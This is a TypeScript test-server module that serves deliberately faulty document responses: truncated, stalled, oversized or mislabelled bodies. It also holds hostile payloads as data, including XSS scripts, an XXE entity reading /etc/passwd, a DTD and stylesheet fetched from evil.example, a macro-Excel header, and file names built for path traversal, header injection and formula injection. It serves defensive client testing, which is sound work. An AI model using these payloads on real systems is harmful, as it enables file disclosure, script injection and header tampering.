import type { ServerResponse } from 'node:http'
import { problemAnswer, type Answer } from '../answers'
import { commentOf, splitPdf } from './fill-up'
import { sendRepeated } from './send-repeated'

export const DOCUMENT_FAULTS = [
  'gone',
  'html',
  'empty',
  'huge',
  'short',
  'long',
  'stall',
  'svg',
  'html-as-pdf',
  'xslt',
  'stylesheet',
  'doctype',
  'entities',
  'macros',
  'hostile-names',
  'big',
] as const
/**
 * What may become of a document. `short` and `long`: less or more comes than was announced. `stall`: half of it, then nothing.
 * `hostile-names`: the lists name it so, and the file too. `big`: all is well with it, but it has 20 MB.
 */
export type DocumentFault = (typeof DOCUMENT_FAULTS)[number]

const MEGABYTE = 1024 * 1024
export const BIG_BYTES = 20 * MEGABYTE
export const HUGE_BYTES = 300 * MEGABYTE

/** Sends a document, or what the fault makes of it. `answer` is the one that brings the document. */
export const sendDocument = (
  response: ServerResponse,
  answer: Answer,
  fault: DocumentFault
): void => {
  const bytes = Buffer.from(answer.body)
  const headers = { ...answer.headers }
  switch (fault) {
    case 'short':
      response.writeHead(200, { ...headers, 'content-length': bytes.length })
      response.write(bytes.subarray(0, Math.floor(bytes.length / 2)))
      // Without the end that HTTP would ask for.
      response.socket?.end()
      return
    case 'long':
      return sendTooMuch(response, headers, bytes)
    case 'stall':
      response.writeHead(200, { ...headers, 'content-length': bytes.length })
      response.write(bytes.subarray(0, Math.floor(bytes.length / 2)))
      return
    case 'big':
      return sendFilled(response, { headers, bytes, sizeBytes: BIG_BYTES })
    case 'huge':
      return sendFilled(response, { headers, bytes, sizeBytes: HUGE_BYTES })
    default:
      return sendWhole(response, spoilt(answer, fault))
  }
}

type WholeFault = Exclude<DocumentFault, 'short' | 'long' | 'stall' | 'big' | 'huge'>

const spoilt = (answer: Answer, fault: WholeFault): Answer => {
  if (fault === 'gone') return problemAnswer(404, 'Nothing of these companies has this id.')
  if (fault === 'hostile-names') {
    return { ...answer, headers: { ...answer.headers, 'content-disposition': HOSTILE_FILE } }
  }
  const [contentType, body] = DISGUISES[fault]
  return { ...answer, headers: { ...answer.headers, 'content-type': contentType }, body }
}

const PDF = 'application/pdf'
const XML = 'application/xml'
const SCRIPT = '<script>alert(document.domain)</script>'

/** The beginning of an Excel file with macros: its first entry, stored, with a checksum that nobody looks at. */
const MACROS = (() => {
  const [name, types] = [
    '[Content_Types].xml',
    '<a b="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>',
  ]
  const long = (number: number) => `${String.fromCharCode(number)}\0\0\0`
  return `PK\u0003\u0004\u0014${'\0'.repeat(13)}${long(types.length).repeat(2)}${long(name.length)}${name}${types}`
})()

const DISGUISES: Readonly<
  Record<Exclude<WholeFault, 'gone' | 'hostile-names'>, readonly [type: string, body: string]>
> = {
  html: ['text/html; charset=utf-8', `<!doctype html><title>Sign in</title>${SCRIPT}`],
  'html-as-pdf': [PDF, `<!doctype html><title>Sign in</title>${SCRIPT}`],
  empty: [PDF, ''],
  svg: [PDF, `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`],
  xslt: [
    XML,
    `<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${SCRIPT}</xsl:template></xsl:stylesheet>`,
  ],
  stylesheet: [
    XML,
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?><nfeProc/>',
  ],
  doctype: [
    XML,
    '<?xml version="1.0"?><!DOCTYPE nfeProc SYSTEM "https://evil.example/a.dtd"><nfeProc/>',
  ],
  entities: [
    XML,
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><nfeProc>&b;&c;</nfeProc>',
  ],
  macros: [PDF, MACROS],
}

const HOSTILE_FILE = `attachment; filename="..\\..\\evil.html\\"; x=\\"<script>.pdf"`
const HOSTILE_LABEL = '../../\u202Efdp.exe"\';<script>alert(1)</script>\r\nX-Evil: 1 \u{1F600}'

/** A record as it is listed, its documents under names that nobody should write to a disk or a header. */
export const withHostileNames = (body: string): string =>
  JSON.stringify(JSON.parse(body), (name, value: unknown) =>
    name === 'documents' && Array.isArray(value)
      ? value.map((document: object) => ({
          ...document,
          label: HOSTILE_LABEL,
          number: '=../..\\1\r\n"2"',
        }))
      : value
  )

const sendWhole = (response: ServerResponse, { status, headers, body }: Answer): void => {
  response.writeHead(status, { ...headers, 'content-length': Buffer.byteLength(body) })
  response.end(body)
}

/** HTTP reads to the length announced; what follows spoils the connection. */
const sendTooMuch = (
  response: ServerResponse,
  headers: Readonly<Record<string, string>>,
  bytes: Buffer
): void => {
  response.strictContentLength = false
  response.writeHead(200, { ...headers, 'content-length': bytes.length - 10, connection: 'close' })
  response.end(bytes)
}

interface Filled {
  readonly headers: Readonly<Record<string, string>>
  readonly bytes: Buffer
  readonly sizeBytes: number
}

/** A valid PDF of any size, of which never more than a chunk is in memory. What is no PDF gets space at its end. */
const sendFilled = (response: ServerResponse, { headers, bytes, sizeBytes }: Filled): void => {
  const isPdf = headers['content-type'] === PDF
  const { head, tail } = isPdf ? splitPdf(bytes) : { head: bytes, tail: Buffer.alloc(0) }
  response.writeHead(200, { ...headers, 'content-length': sizeBytes })
  response.write(head)
  const line = isPdf ? commentOf(1024) : Buffer.alloc(1024, '\n')
  sendRepeated(response, { line, bytes: sizeBytes - head.length - tail.length, tail })
}
